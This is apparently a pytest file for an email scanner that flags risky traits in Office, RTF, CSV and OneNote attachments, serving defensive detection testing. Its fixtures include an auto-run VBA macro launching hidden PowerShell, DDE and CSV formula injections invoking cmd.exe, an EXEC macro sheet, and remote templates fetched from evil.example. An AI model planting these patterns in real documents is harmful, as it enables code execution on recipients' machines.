"""Office documents: what runs, loads or hides in them."""

import io
import random

import pytest

from mailguard.corpus.writers import formats as makers
from tests.cast.mailguard.files import rare
from tests.cast.mailguard.files.examined import inside, outer, traits

HARMLESS = 'Sub Total()\r\n  MsgBox Range("A1").Value\r\nEnd Sub\r\n'
HARMFUL = (
    'Sub AutoOpen()\r\n  Dim s\r\n  Set s = CreateObject("WScript.Shell")\r\n'
    '  s.Run "powershell -w hidden -c calc"\r\nEnd Sub\r\n'
)


def _with_macro(source, name="word/vbaProject.bin", kind="word"):
    return makers.document(kind, {name: makers.macro_project(source)})


def test_a_plain_document_has_no_traits_and_gives_its_words():
    file = outer("programme.docx", makers.document(text="Our programme"))
    assert (file.kind, file.traits, file.text) == ("docx", (), "Our programme")


def test_a_macro_that_starts_a_shell_by_itself_is_all_three():
    assert {"macro", "macro_auto", "macro_suspicious"} <= traits("a.docm", _with_macro(HARMFUL))


def test_a_macro_that_adds_up_is_a_macro_only():
    assert traits("a.xlsm", _with_macro(HARMLESS, "xl/vbaProject.bin", "xl")) == {"macro"}


def test_a_macro_in_an_old_document_is_read_too():
    project = makers.macro_project(HARMFUL)
    import olefile

    with olefile.OleFileIO(io.BytesIO(project)) as file:
        streams = {"Macros/" + "/".join(each): file.openstream(each).read() for each in file.listdir()}
    data = makers.compound({"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 900, **streams})
    assert {"macro", "macro_auto", "macro_suspicious"} <= traits("a.doc", data)


def test_a_remote_template_is_named_with_its_address():
    pieces = {
        "word/_rels/settings.xml.rels": rare.relations(("attachedTemplate", "https://evil.example/t.dotm"))
    }
    file = outer("a.docx", makers.document(pieces=pieces))
    assert file.has("remote_template")
    assert file.links[0].host == "evil.example"


def test_ordinary_links_and_templates_on_the_own_disk_are_no_remote_template():
    rows = rare.relations(
        ("hyperlink", "https://example.org/"), ("attachedTemplate", "file:///C:/Users/bob/Normal.dotm")
    )
    file = outer("a.docx", makers.document(pieces={"word/_rels/document.xml.rels": rows}))
    assert not file.has("remote_template")
    assert [link.url for link in file.links] == ["https://example.org/"]


def test_a_field_that_starts_a_program_is_dde_even_in_pieces():
    field = b"<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText>"
    data = makers.zipped({"[Content_Types].xml": b"", "word/document.xml": field})
    assert "dde" in traits("a.docx", data)


def test_a_packed_file_in_a_document_is_shown_with_its_name():
    piece = makers.compound({"\x01Ole10Native": rare.package("invoice.exe", makers.PROGRAM)})
    data = makers.document(pieces={"word/embeddings/oleObject1.bin": piece})
    assert {"ole_object", "ole_package"} <= traits("a.docx", data)
    assert inside("a.docx", data)["invoice.exe"].has("executable")


def test_the_sheet_behind_a_chart_is_no_object():
    data = makers.document(pieces={"word/embeddings/sheet.xlsx": makers.document("xl")})
    assert traits("a.docx", data) == set()


def test_controls_and_old_macro_sheets_are_noticed():
    sheet = b'<f>EXEC("calc.exe")</f>'
    book = b'<workbook><definedName name="_xlnm.Auto_Open">1</definedName></workbook>'
    data = makers.zipped(
        {"[Content_Types].xml": b"", "xl/workbook.xml": book, "xl/macrosheets/sheet1.xml": sheet,
         "xl/activeX/activeX1.xml": b""}
    )  # fmt: skip
    assert {"macro", "macro_auto", "macro_suspicious", "activex"} <= traits("a.xlsm", data)


def test_a_code_in_a_picture_of_a_document_is_read():
    data = makers.document(pieces={"word/media/image1.png": makers.picture("https://evil.example/q")})
    assert outer("a.docx", data).links[0].where == "qr"


@pytest.mark.parametrize(
    ("words", "is_open"), [("The password is Valbrune7!", True), ("Please read it.", False)]
)
def test_a_locked_document_opens_with_the_password_of_the_message(words, is_open):
    import msoffcrypto.format.ooxml as ooxml

    noise = random.Random(1).randbytes(9_000)  # the library writes small packages wrongly
    plain = makers.document(pieces={"word/vbaProject.bin": makers.macro_project(HARMFUL), "noise.bin": noise})
    out = io.BytesIO()
    ooxml.OOXMLFile(io.BytesIO(plain)).encrypt("Valbrune7!", out)
    found = traits("a.docm", out.getvalue(), words)
    assert "encrypted" in found
    assert ("opened" in found) == is_open == ("macro_auto" in found)


def test_rich_text_shows_objects_templates_and_the_equation_editor():
    ole1 = (
        b"01050000"
        + b"02000000"
        + b"0b000000"
        + b"Equation.3\x00".hex().encode()
        + b"00" * 8
        + b"04000000"
        + b"41" * 4
    )
    data = (
        b"{\\rtf1{\\*\\template http://evil.example/t}{\\object\\objemb\\objupdate{\\*\\objdata "
        + ole1
        + b"}}}"
    )
    assert {"remote_template", "objupdate", "equation"} <= traits("a.doc", data)
    assert traits("a.rtf", b"{\\rtf1\\ansi Hello \\b all\\b0 }") == set()


def test_formulas_of_a_list_may_start_programs():
    assert "dde" in traits("members.csv", b"name,mail\n=cmd|'/c calc'!A1,bob@example.org\n")
    assert traits("members.csv", b"name,sum\nBob,-12.50\nAlice,=A1+A2\n") == set()
    assert "remote_template" in traits("q.iqy", b"WEB\n1\nhttps://evil.example/q\n")


def test_a_notebook_shows_the_files_that_lie_in_it():
    data = rare.notebook("open me.hta", b"<html><script>new ActiveXObject('WScript.Shell')</script>")
    assert {"onenote", "embedded"} <= traits("a.one", data)
    assert inside("a.one", data)["open me.hta"].has("script")
